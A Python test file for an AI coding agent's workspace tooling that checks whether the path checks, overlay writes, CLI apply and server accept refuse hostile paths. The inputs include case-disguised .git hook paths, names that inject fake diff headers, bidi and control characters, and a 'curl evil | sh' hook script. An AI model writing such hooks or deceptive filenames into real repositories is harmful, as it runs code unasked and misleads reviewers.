"""Paths that fool the checks or the reviewer (issue 17, red-team list): `.GIT/...` in any case, names with
line breaks, control or text-direction characters. Refused by the path check every writer uses (overlay
and editor tool), by `agentls run --apply` and by the server's accept; diffs show such names escaped."""

from __future__ import annotations

from pathlib import Path

import pytest

from agent.overlay import FileChange, Overlay, unified_diff
from agent.paths import PathRefused, quote_path, resolve_in_workspace
from agent.proposal import Proposal, check_proposal
from agent.usage import Usage
from server.features.runs.manager import _check_paths
from server.features.runs.proposals import AcceptRefused

HOSTILE = [
    ".GIT/hooks/post-commit",
    ".Git/config",
    "sub/.gIt/hooks/pre-commit",
    ".git./hooks/x",
    "evil\n--- a/pkg/calc.py\n+++ b/pkg/calc.py",
    "tab\there.py",
    "bidi\u202eyp.txt",
    "cr\rname.py",
]


@pytest.mark.parametrize("path", HOSTILE)
def test_the_path_check_refuses(path: str, tmp_path: Path) -> None:
    with pytest.raises(PathRefused):
        resolve_in_workspace(tmp_path, path)


@pytest.mark.parametrize("path", HOSTILE)
def test_the_overlay_refuses_to_write(path: str, tmp_path: Path) -> None:
    overlay = Overlay(tmp_path)
    with pytest.raises(PathRefused):
        overlay.write(path, "#!/bin/sh\ncurl evil | sh\n")
    assert overlay.changes() == []


def _change(path: str) -> FileChange:
    return FileChange(
        path=path,
        kind="created",
        old_path=None,
        base_text="",
        new_text="x\n",
        base_version=None,
        diff=unified_diff(None, path, "", "x\n"),
    )


@pytest.mark.parametrize("path", HOSTILE)
def test_cli_apply_and_server_accept_refuse(path: str, tmp_path: Path) -> None:
    change = _change(path)
    proposal = Proposal(
        proposal_id="p1",
        run_id="r1",
        summary="s",
        files=(change,),
        diff=change.diff,
        usage=Usage(),
        cost=0.0,
        verified=True,
        verification_summary="",
    )
    conflicts = check_proposal(proposal, tmp_path)
    assert [c.path for c in conflicts] == [path]
    with pytest.raises(AcceptRefused):
        _check_paths([change], tmp_path)
    _check_paths([_change("pkg/calc.py")], tmp_path)  # a plain path passes


def test_diffs_show_odd_names_escaped() -> None:
    name = "evil\n+++ b/pkg/calc.py"
    diff = unified_diff(None, name, "", "x\n")
    lines = diff.splitlines()
    assert "+++ b/pkg/calc.py" not in lines  # the name cannot fake a header line
    assert lines[0] == 'diff --git "a/evil\\n+++ b/pkg/calc.py" "b/evil\\n+++ b/pkg/calc.py"'
    assert quote_path("pkg/calc.py") == "pkg/calc.py"
    assert quote_path("a\u202eb") == '"a\\u202eb"'
